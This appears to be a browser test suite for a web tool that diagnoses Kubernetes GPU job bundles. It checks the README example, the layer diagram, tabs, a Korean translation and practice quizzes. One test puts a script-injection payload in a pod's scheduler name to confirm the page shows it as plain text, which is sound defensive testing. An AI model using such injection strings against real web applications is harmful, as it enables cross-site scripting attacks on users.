  const a = old.indexOf(begin.slice(0, 20));
  const b = old.indexOf(end);
  const next = a >= 0 && b > a ? `${old.slice(0, a)}${section}${old.slice(b + end.length)}` : `${old.trimEnd()}\n\n${section}\n`;
  writeFileSync(file, next);
}

// The npm README's browser example, saved as index.html beside node_modules/ the way it says,
// must diagnose a pasted bundle in a real browser.
test("the npm README's browser example runs as printed", async () => {
  const pkg = process.env.KL_PKG ?? resolve(here, '../../wasm/pkg');
  const readme = readFileSync(join(pkg, 'README.md'), 'utf8');
  const html = (readme.split('## Browser')[1] ?? '').match(/```html\n([\s\S]*?)```/)?.[1];
  assert.ok(html, 'the README has a browser example');
  const site = mkdtempSync(join(tmpdir(), 'kl-readme-'));
  writeFileSync(join(site, 'index.html'), html);
  const served = (path) => (path.startsWith('/node_modules/kubectl-layer/') ? join(pkg, path.slice('/node_modules/kubectl-layer/'.length)) : join(site, path === '/' ? 'index.html' : path));
  const other = http.createServer((req, res) => {
    const file = served(decodeURIComponent(new URL(req.url, 'http://x').pathname));
    if (!existsSync(file)) { res.writeHead(404); return res.end(); }
    res.writeHead(200, { 'Content-Type': MIME[extname(file)] ?? 'application/octet-stream' });
    res.end(readFileSync(file));
  });
  await new Promise((r) => other.listen(0, '127.0.0.1', r));
  const tab = await context.newPage();
  try {
    const errors = [];
    tab.on('pageerror', (e) => errors.push(String(e)));
    await tab.goto(`http://127.0.0.1:${other.address().port}/`);
    const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
    await tab.evaluate((t) => { document.querySelector('#bundle').value = t; }, s.bundle);
    // init() may still be loading the module: click until the output appears.
    await tab.waitForFunction(() => {
      document.querySelector('#go').click();
      return document.querySelector('#out').textContent.length > 0;
    }, null, { timeout: 30_000, polling: 200 });
    const out = await tab.textContent('#out');
    assert.match(out, /blocked at PLACEMENT/, out);
    assert.deepEqual(errors, []);
  } finally {
    await tab.close();
    other.close();
  }
});


test('the picture of several examples matches its diagnosis JSON, with and without a misalignment', async () => {
  let arrows = 0;
  let plain = 0;
  for (const name of ['kueue-admitted-no-gpu-room', 'healthy-gpu-job', 'fake-gpu-stale-count', 'kai-fraction-k3s-runtimeclass']) {
    const s = scenarios.find((x) => x.name === name);
    await paste(s.bundle);
    await choose(s.expected[0].target);
    // The diagnosis JSON as the package gives it, for the same bundle and target.
    const d = await page.evaluate(async (t) => {
      const { Bundle } = await import('./pkg/index.web.mjs');
      const b = Bundle.parse([document.querySelector('[data-testid="bundle-input"]').value]);
      try { return b.diagnose(t); } finally { b.free(); }
    }, s.expected[0].target);
    const fromJson = {
      verdict: d.verdict,
      layers: Object.fromEntries(d.layers.map((l) => [l.layer, l.state])),
      misalignment: d.verdict.misalignment,
    };
    await checkPicture(`${name} (from the JSON)`, fromJson);
    if (d.verdict.misalignment) arrows += 1; else plain += 1;
  }
  assert.ok(arrows > 0 && plain > 0, `${arrows} with an arrow, ${plain} without`);
});

test('a hostile name in a pasted bundle is text in the picture', async () => {
  await reset();
  const evil = '"><img src=x onerror="window.__pwned=\'svg\'"><script>window.__pwned=1</script></text><foreignObject>x';
  const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'ml', uid: 'u1', creationTimestamp: '2026-01-01T00:00:00Z' },
    spec: { schedulerName: evil, nodeName: 'n1', containers: [{ name: 'c', image: 'i' }] },
    status: { phase: 'Running', conditions: [{ type: 'PodScheduled', status: 'True' }] } };
  await paste(JSON.stringify(pod));
  const svg = await page.$eval('[data-testid="picture"]', (el) => ({
    tags: [...new Set([...el.querySelectorAll('*')].map((n) => n.localName))].sort(),
    placement: el.querySelector('.layer-box[data-layer="placement"] title').textContent,
  }));
  assert.ok(svg.placement.includes(evil), `the scheduler's name is shown whole, as text: ${svg.placement}`);
  assert.deepEqual(svg.tags, ['defs', 'g', 'line', 'marker', 'path', 'rect', 'text', 'title'], 'no element was made from the name');
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
});

test('tabs: the rules have their own tab, kept in the fragment beside other keys, and the page is short', async () => {
  await reset();
  const height = await page.evaluate(() => document.documentElement.scrollHeight);
  assert.ok(height < 2500, `the page before any diagnosis is ${height} px tall`);
  assert.equal(await page.isVisible('#rules'), false, 'the rules are not in the diagnosis flow');
  await page.evaluate(() => history.replaceState(null, '', '#lang=ko'));
  await page.click('#tab-rules');
  assert.equal(await page.isVisible('#rules details >> nth=0'), true);
  assert.ok((await page.$$eval('#rules details', (d) => d.length)) >= 20);
  assert.equal(await page.evaluate(() => location.hash), '#lang=ko&tab=rules', 'the tab is added, the language kept');
  assert.equal(await page.getAttribute('#tab-rules', 'aria-selected'), 'true');
  // Arrow keys move between tabs, and the focus with them.
  await page.focus('#tab-rules');
  await page.keyboard.press('ArrowLeft');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'tab-diagnose');
  assert.equal(await page.getAttribute('#tab-diagnose', 'aria-selected'), 'true');
  assert.equal(await page.evaluate(() => location.hash), '#lang=ko');
  assert.equal(await page.isVisible('[data-testid="bundle-input"]'), true);
  await page.keyboard.press('End');
  assert.equal(await page.evaluate(() => document.body.dataset.tab), 'practice');
  await page.keyboard.press('Home');
  // A link opens the tab it names.
  await page.goto(`${pageUrl}#tab=rules&lang=ko`);
  await page.reload();
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  assert.equal(await page.isVisible('#rules'), true);
  assert.equal(await page.isVisible('[data-testid="bundle-input"]'), false);
  assert.equal(await page.evaluate(() => location.hash), '#tab=rules&lang=ko', 'opening writes nothing');
  await page.click('#tab-diagnose');
  assert.equal(await page.evaluate(() => location.hash), '#lang=ko');
  // The link opened the page in Korean: back to English for the tests after this one.
  assert.equal(await page.evaluate(() => document.documentElement.lang), 'ko');
  await page.evaluate(() => history.replaceState(null, '', location.pathname));
  await page.reload();
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  assert.equal(await page.evaluate(() => document.documentElement.lang), 'en');
});

const HANGUL = /[\uac00-\ud7a3]/;

/** What the page shows of a diagnosis, in whatever language it is in. */
async function shownDiagnosis() {
  return page.evaluate(() => ({
    verdict: document.querySelector('[data-testid="verdict"]').textContent,
    state: document.querySelector('[data-testid="verdict"]').dataset.state,
    layer: document.querySelector('[data-testid="verdict"]').dataset.layer,
    headline: document.querySelector('[data-testid="headline"]').textContent,
    headlineKo: document.querySelector('[data-testid="headline-ko"]').hidden ? null : document.querySelector('[data-testid="headline-ko"]').textContent,
    rows: [...document.querySelectorAll('#layer-rows tr')].map((r) => ({ layer: r.dataset.layer, state: r.dataset.state, name: r.querySelector('th').textContent, label: r.querySelector('.state').textContent, summary: r.querySelector('.summary').textContent })),
    findings: [...document.querySelectorAll('#findings > li > p')].map((p) => p.textContent),
    boxes: [...document.querySelectorAll('[data-testid="picture"] .layer-box')].map((g) => ({ layer: g.dataset.layer, state: g.dataset.state, text: g.textContent })),
    title: document.querySelector('#input-title').textContent,
    lang: document.documentElement.lang,
    hash: location.hash,
    reads: document.body.dataset.reads,
  }));
}

test('language: 한국어 shows the diagnosis, the picture, the page and the rules in Korean, in the fragment; English comes back the same', async () => {
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room');
  const target = s.expected[0].target;
  await page.click('#tab-diagnose');
  await paste(s.bundle);
  await choose(target);
  const en = await shownDiagnosis();
  assert.equal(en.lang, 'en');
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('[data-testid="lang-switch"]');
  await page.waitForSelector('body[data-ready="true"][data-lang="ko"]', { state: 'attached' });
  const ko = await shownDiagnosis();
  assert.equal(ko.lang, 'ko');
  assert.equal(ko.hash, '#lang=ko');
  assert.equal(ko.reads, en.reads, 'the bundle is not read again for another language');
  // The same decisions, in other words; the headline stays English with its Korean beside it.
  assert.equal(ko.state, en.state);
  assert.equal(ko.layer, en.layer);
  assert.equal(ko.headline, en.headline);
  assert.match(ko.headlineKo ?? '', HANGUL);
  assert.equal(en.headlineKo, null);
  assert.deepEqual(ko.rows.map((r) => [r.layer, r.state]), en.rows.map((r) => [r.layer, r.state]));
  assert.deepEqual(ko.rows.map((r) => r.name), ['장치', '입장', '묶음', '배치', '런타임', '서빙']);
  for (const r of ko.rows) assert.match(r.summary, HANGUL, `${r.layer} summary`);
  for (const f of ko.findings) assert.match(f, HANGUL, 'finding message');
  assert.match(ko.verdict, HANGUL);
  assert.match(ko.title, /붙여/);
  assert.deepEqual(ko.boxes.map((b) => [b.layer, b.state]), en.boxes.map((b) => [b.layer, b.state]));
  const blocking = ko.boxes.find((b) => b.layer === ko.layer);
  assert.ok(blocking.text.includes('배치') && blocking.text.includes('여기서 막힘'), blocking.text);
  // The rules tab in Korean.
  await page.click('#tab-rules');
  const summaries = await page.$$eval('#rules summary', (x) => x.map((e) => e.textContent));
  assert.ok(summaries.length >= 20 && summaries.every((x) => HANGUL.test(x)), 'every rule summary in Korean');
  assert.equal(await page.textContent('#tab-rules'), '규칙');
  await page.click('#tab-diagnose');
  // Copy as Markdown copies the Korean report, title English.
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  await page.click('#copy-markdown');
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(md.split('\n').slice(1).join('\n'), HANGUL);
  assert.ok(md.startsWith('### '), md.slice(0, 80));
  // A link opens the page in Korean by itself.
  await page.reload();
  await page.waitForSelector('body[data-ready="true"][data-lang="ko"]', { state: 'attached' });
  assert.equal(await page.evaluate(() => document.documentElement.lang), 'ko');
  // And back: English as it was, nothing left in the fragment.
  await paste(s.bundle);
  await choose(target);
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('[data-testid="lang-switch"]');
  await page.waitForSelector('body[data-ready="true"][data-lang="en"]', { state: 'attached' });
  const back = await shownDiagnosis();
  assert.deepEqual({ ...back, reads: en.reads }, { ...en, hash: '' });
});

test('rule summaries show backtick spans as code', async () => {
  await page.click('#tab-rules');
  const summaries = await page.$$eval('#rules summary', (s) => s.map((x) => ({ text: x.textContent, codes: x.querySelectorAll('code').length })));
  assert.ok(summaries.some((x) => x.codes > 0), 'some summary has code');
  assert.deepEqual(summaries.filter((x) => x.text.includes('`')), [], 'no raw backtick is shown');
  await page.click('#tab-diagnose');
});

test('the examples are titled by their READMEs, not their folder names', async () => {
  const shown = await page.$$eval('#example option', (o) => o.filter((x) => x.value).map((x) => ({ file: x.value, title: x.textContent })));
  assert.equal(shown.length, scenarios.length);
  for (const { file, title } of shown) {
    const name = file.replace(/\.(json|yaml)$/, '');
    const heading = readFileSync(join(scenariosDir, name, 'README.md'), 'utf8').split('\n').find((l) => l.startsWith('# ')).slice(2).trim();
    assert.equal(title, heading);
    assert.notEqual(title, name);
  }
});

test('Copy as Markdown is disabled and copies nothing before a diagnosis', async () => {
  await reset();
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  await page.evaluate(() => navigator.clipboard.writeText('before'));
  assert.equal(await page.isDisabled('#copy-markdown'), true);
  await page.click('#copy-markdown', { force: true });
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'before');
  const s = scenarios.find((x) => x.name === 'healthy-gpu-job');
  await paste(s.bundle);
  assert.equal(await page.isDisabled('#copy-markdown'), false);
  await page.click('#copy-markdown');
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(md, /```mermaid\nflowchart LR\n/, 'the Markdown carries the picture');
  await paste('{"apiVersion": "v1", "kind": "List", "items": [ }');
  assert.equal(await page.isDisabled('#copy-markdown'), true, 'disabled again when the input cannot be read');
});

test('practice: a round asks from the bank, scores right and wrong answers, filters by kind and speaks Korean', async () => {
  const bank = JSON.parse(readFileSync(join(dist, 'practice.json'), 'utf8'));
  const byId = new Map(bank.questions.map((q) => [q.id, q]));
  await page.click('#tab-practice');
  await page.waitForSelector('[data-testid="practice"][data-question]');
  assert.match(await page.evaluate(() => location.hash), /^#(.*&)?tab=practice(&|$)/);
  const ask = async () => {
    const id = await page.getAttribute('[data-testid="practice"]', 'data-question');
    const q = byId.get(id);
    assert.ok(q, `the page asks a question of the bank: ${id}`);
    const shown = await page.$eval('[data-testid="practice-prompt"]', (p) => p.textContent);
    return { q, shown };
  };
  // A right answer.
  let { q, shown } = await ask();
  assert.equal(shown, q.en.prompt);
  assert.equal(await page.$$eval('.practice-choices .choice', (b) => b.length), q.en.choices.length);
  assert.equal(await page.isVisible('[data-testid="practice-explanation"]'), false, 'the answer is hidden until chosen');
  await page.click(`.practice-choices .choice[data-index="${q.answer}"]`);
  assert.equal(await page.getAttribute('[data-testid="practice-verdict"]', 'data-right'), 'true');
  assert.equal(await page.textContent('[data-testid="practice-explanation"]'), q.en.explanation);
  assert.equal(await page.textContent('[data-testid="practice-score"]'), '1 of 1 right');
  // A wrong one, after the next question.
  await page.click('[data-testid="practice-next"]');
  ({ q } = await ask());
  const wrong = (q.answer + 1) % q.en.choices.length;
  await page.click(`.practice-choices .choice[data-index="${wrong}"]`);
  assert.equal(await page.getAttribute('[data-testid="practice-verdict"]', 'data-right'), 'false');
  // Backtick spans are shown as code, so the words are compared without them.
  assert.ok((await page.textContent('[data-testid="practice-verdict"]')).includes(q.en.choices[q.answer].replace(/`/g, '')));
  assert.equal(await page.getAttribute(`.practice-choices .choice[data-index="${q.answer}"]`, 'class'), 'choice right');
  assert.equal(await page.textContent('[data-testid="practice-score"]'), '1 of 2 right');
  // Only contributing questions when asked.
  await page.selectOption('[data-testid="practice-kind"]', 'contributing');
  for (let i = 0; i < 3; i += 1) {
    ({ q } = await ask());
    assert.equal(q.kind, 'contributing', q.id);
    await page.click('[data-testid="practice-next"]');
  }
  await page.selectOption('[data-testid="practice-kind"]', 'layer');
  ({ q } = await ask());
  assert.equal(q.kind, 'layer');
  assert.equal(await page.$$eval('.practice-choices .choice', (b) => b.length), 6);
  // The same question in Korean.
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('[data-testid="lang-switch"]');
  await page.waitForSelector('body[data-ready="true"][data-lang="ko"]', { state: 'attached' });
  ({ q, shown } = await ask());
  assert.equal(shown, q.ko.prompt);
  assert.match(await page.textContent('#tab-practice'), /연습/);
  assert.deepEqual(await page.$$eval('.practice-choices .choice', (b) => b.map((x) => x.textContent.replace(/^\d+\. /, ''))), q.ko.choices);
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('[data-testid="lang-switch"]');
  await page.waitForSelector('body[data-ready="true"][data-lang="en"]', { state: 'attached' });
  await page.click('#tab-diagnose');
});

test('practice: the headline kind judges a typed title by the bank\'s written rules and shows the tool\'s headline, in English and Korean', async () => {
  const bank = JSON.parse(readFileSync(join(dist, 'practice.json'), 'utf8'));
  const byId = new Map(bank.questions.map((q) => [q.id, q]));
  const layers = ['device', 'admission', 'grouping', 'placement', 'runtime', 'serving'];
  const current = async () => byId.get(await page.getAttribute('[data-testid="practice"]', 'data-question'));
  const caseOf = (text) => text.prompt.trimEnd().split('\n').slice(0, -1).join('\n');
  const write = async (title) => {
    await page.fill('[data-testid="practice-title"]', title);
    await page.press('[data-testid="practice-title"]', 'Enter');
    return page.textContent('[data-testid="practice-verdict"]');
  };
  await page.click('#tab-practice');
  await page.waitForSelector('[data-testid="practice"][data-question]');
  await page.selectOption('[data-testid="practice-kind"]', 'headline');
  // The layer and the observation: a good title; then the tool's own headline and the diagnosis.
  let q = await current();
  assert.ok(q.kind === 'layer' && q.headline, q.id);
  assert.equal(await page.textContent('[data-testid="practice-prompt"]'), caseOf(q.en));
  assert.equal(await page.isVisible('[data-testid="practice-explanation"]'), false);
  let verdict = await write(`${layers[q.answer]}: ${q.headline.observationTerms[0]}`);
  assert.equal(await page.getAttribute('[data-testid="practice-verdict"]', 'data-right'), 'true');
  assert.ok(verdict.startsWith('A good title'), verdict);
  assert.ok((await page.textContent('[data-testid="practice-tool-headline"]')).includes(q.headline.headline));
  assert.equal(await page.textContent('[data-testid="practice-explanation"]'), q.en.explanation);
  assert.equal(await page.textContent('[data-testid="practice-score"]'), 'Titles that name both: 1 of 1');
  // The layer without the observation, then the observation without the layer.
  await page.click('[data-testid="practice-next"]');
  q = await current();
  verdict = await write(`${layers[q.answer]} is broken`);
  assert.equal(await page.getAttribute('[data-testid="practice-verdict"]', 'data-right'), 'false');
  assert.ok(verdict.includes('Layer: named') && verdict.includes('Observation: missing.'), verdict);
  await page.click('[data-testid="practice-next"]');
  q = await current();
  verdict = await write(q.headline.observationTerms[0]);
  assert.ok(verdict.includes('Layer: not named.') && verdict.includes('Observation: named'), verdict);
  assert.equal(await page.textContent('[data-testid="practice-score"]'), 'Titles that name both: 1 of 3');
  // In Korean: the case and the judgement in Korean, the upstream headline still English.
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('[data-testid="lang-switch"]');
  await page.waitForSelector('body[data-ready="true"][data-lang="ko"]', { state: 'attached' });
  assert.equal(await page.textContent('[data-testid="practice-prompt"]'), caseOf(q.ko));
  assert.ok((await page.textContent('[data-testid="practice-verdict"]')).includes('층: 빠졌습니다.'));
  assert.ok((await page.textContent('[data-testid="practice-tool-headline"]')).includes(q.headline.headline));
  assert.equal(await page.textContent('[data-testid="practice-score"]'), '둘 다 말한 제목: 3개 중 1개');
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('[data-testid="lang-switch"]');
  await page.waitForSelector('body[data-ready="true"][data-lang="en"]', { state: 'attached' });
  await page.selectOption('[data-testid="practice-kind"]', 'all');
  await page.click('#tab-diagnose');
});

// Screenshots of the picture for a person to look at (KL_SHOTS, outside the repository; `cargo
// xtask web-test` sets it to <target dir>/shots), at a desktop's and a phone's width.
test('screenshots of the picture at 1280 and 390 px', { skip: !process.env.KL_SHOTS && 'KL_SHOTS is not set' }, async () => {
  const dir = process.env.KL_SHOTS;
  mkdirSync(dir, { recursive: true });
  for (const [name, target] of [['kueue-admitted-no-gpu-room', null], ['fake-gpu-stale-count', null], ['healthy-gpu-job', null]]) {
    const s = scenarios.find((x) => x.name === name);
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: width > 500 ? 900 : 844 });
      await paste(s.bundle);
      await choose(target ?? s.expected[0].target);
      await page.waitForTimeout(100); // the picture is redrawn for the new width
      await page.locator('#picture').screenshot({ path: join(dir, `picture-${name}-${width}.png`) });
      await page.screenshot({ path: join(dir, `page-${name}-${width}.png`), fullPage: true });
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      assert.ok(overflow <= 1, `${name} at ${width} px: no horizontal scrolling (${overflow} px)`);
    }
  }
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.click('#tab-rules');
  await page.screenshot({ path: join(dir, 'rules-tab-1280.png'), fullPage: true });
  await page.click('#tab-diagnose');
  // The same page in Korean, at both widths.
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('[data-testid="lang-switch"]');
  await page.waitForSelector('body[data-ready="true"][data-lang="ko"]', { state: 'attached' });
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room');
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: width > 500 ? 900 : 844 });
    await paste(s.bundle);
    await choose(s.expected[0].target);
    await page.waitForTimeout(100);
    await page.screenshot({ path: join(dir, `page-ko-${s.name}-${width}.png`), fullPage: true });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(overflow <= 1, `Korean at ${width} px: no horizontal scrolling (${overflow} px)`);
  }
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: width > 500 ? 900 : 844 });
    await page.click('#tab-practice');
    await page.waitForSelector('[data-testid="practice"][data-question]');
    await page.click('[data-testid="practice-next"]');
    await page.click('.practice-choices .choice >> nth=0');
    await page.screenshot({ path: join(dir, `practice-ko-${width}.png`), fullPage: true });
    await page.click('#tab-diagnose');
  }
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('[data-testid="lang-switch"]');
  await page.waitForSelector('body[data-ready="true"][data-lang="en"]', { state: 'attached' });
  await page.click('#tab-practice');
  await page.screenshot({ path: join(dir, 'practice-en-1280.png'), fullPage: true });
  await page.click('#tab-diagnose');
});

test('no console errors', () => {
  assert.deepEqual(consoleErrors.filter((e) => !/example\.com|Content Security Policy|net::ERR_/.test(e)), []);
});
